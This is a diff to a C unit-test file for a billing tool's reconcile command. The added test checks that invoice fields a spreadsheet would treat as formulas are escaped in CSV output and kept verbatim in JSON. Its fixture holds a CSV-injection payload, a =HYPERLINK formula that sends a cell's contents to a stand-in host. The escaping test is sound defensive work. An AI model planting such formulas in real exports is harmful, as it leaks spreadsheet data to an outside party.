@@ -983,6 +983,42 @@ static void test_ctl_ops_reconcile_line_without_charge(void **state)
     run_free(&run);
 }
 
+/* The report's customer_id, charge_id and order_id are the invoice's as
+ * written, free text from another party's file: in CSV one that a
+ * spreadsheet would evaluate as a formula (=HYPERLINK can send the sheet's
+ * cells to a URL) follows a single quote, and JSON keeps it as it was. */
+static void test_ctl_ops_reconcile_csv_formula(void **state)
+{
+    struct fixture *fixture = *state;
+    struct run run;
+    char auditor[PATH_SIZE], billing[PATH_SIZE], month[16], invoice[PATH_SIZE + 32];
+    demo_keys(fixture, auditor, billing, sizeof auditor);
+    this_month(month);
+    snprintf(invoice, sizeof invoice, "%s/formula.csv", fixture->dir);
+    FILE *file = fopen(invoice, "wb");
+    assert_non_null(file);
+    fprintf(file, "customer_id,order_id,charge_id,charge,amount,currency\r\n"
+                  "+fabrikam,\"=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"open\"\")\",@res-1,"
+                  "reservation,-1.00,USD\r\n");
+    assert_int_equal(fclose(file), 0);
+    ctl(fixture, &run, "billing", billing, "--partner", "contoso", "--output", "csv", "reconcile",
+        "--invoice", invoice, "--month", month, NULL);
+    expect_error(&run, 1, "MISMATCH");
+    assert_non_null(strstr(run.out, "only-on-invoice,'+fabrikam,reservation,'@res-1,"
+                                    "\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"open\"\")\",2,"
+                                    "-1.00,USD,,,\r\n"));
+    run_free(&run);
+    ctl(fixture, &run, "billing", billing, "--partner", "contoso", "--output", "json", "reconcile",
+        "--invoice", invoice, "--month", month, NULL);
+    expect_error(&run, 1, "MISMATCH");
+    json_t *extra = difference_of(&run, "only-on-invoice");
+    assert_string_equal("+fabrikam", json_string_value(json_object_get(extra, "customer_id")));
+    assert_string_equal("@res-1", json_string_value(json_object_get(extra, "charge_id")));
+    assert_string_equal("=HYPERLINK(\"http://x.example/\"&A1,\"open\")",
+                        json_string_value(json_object_get(extra, "order_id")));
+    run_free(&run);
+}
+
 /* Fields 1 (customer) to 3 (charge id) of an unquoted export line. */
 static bool same_customer_and_id(const char *left, const char *right)
 {
@@ -2647,6 +2683,7 @@ int main(void)
         cmocka_unit_test(test_ctl_ops_reconcile_invoice_format),
         cmocka_unit_test(test_ctl_ops_reconcile_other_month),
         cmocka_unit_test(test_ctl_ops_reconcile_line_without_charge),
+        cmocka_unit_test(test_ctl_ops_reconcile_csv_formula),
         cmocka_unit_test(test_ctl_ops_reconcile_charge_kind),
         cmocka_unit_test(test_ctl_ops_reconcile_empty_month),
         cmocka_unit_test(test_ctl_ops_events_csv_appended),
